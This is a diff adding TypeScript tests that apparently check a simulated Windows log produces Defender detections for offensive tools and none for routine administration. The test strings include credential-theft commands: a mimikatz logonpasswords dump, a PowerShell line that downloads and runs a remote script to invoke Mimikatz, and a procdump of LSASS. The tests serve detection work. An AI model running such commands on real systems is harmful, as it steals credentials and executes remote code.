@@ -235,3 +235,26 @@ describe('the fields Windows writes beside the ones an event is built from', () 
     expect(withId(records, 4663)).toEqual([expect.objectContaining({ AccessList: '%%4484' })]);
   });
 });
+
+describe('Defender’s detections of well-known offensive tools', () => {
+  const detections = (line: string) => withId(eventsOf([cmdline(line)]), 1116).map((event) => [event['SourceName'], event['ThreatName']]);
+
+  it('names a hacktool that runs, offensive PowerShell AMSI shows it, and a dump of LSASS', () => {
+    expect(detections('mimikatz.exe "sekurlsa::logonpasswords" exit')).toContainEqual([
+      'Real-Time Protection',
+      'HackTool:Win64/Mikatz!dha',
+    ]);
+    expect(detections('powershell -c "IEX (iwr http://203.0.113.4/im.ps1); Invoke-Mimikatz -DumpCreds"')).toContainEqual([
+      'AMSI',
+      'HackTool:PowerShell/Mimikatz',
+    ]);
+    expect(detections('procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp')).toEqual([
+      ['Real-Time Protection', 'Behavior:Win32/LsassDump.A'],
+    ]);
+  });
+
+  it('stays quiet on ordinary administration', () => {
+    expect(detections('whoami /all')).toEqual([]);
+    expect(detections('powershell -c Get-Service')).toEqual([]);
+  });
+});
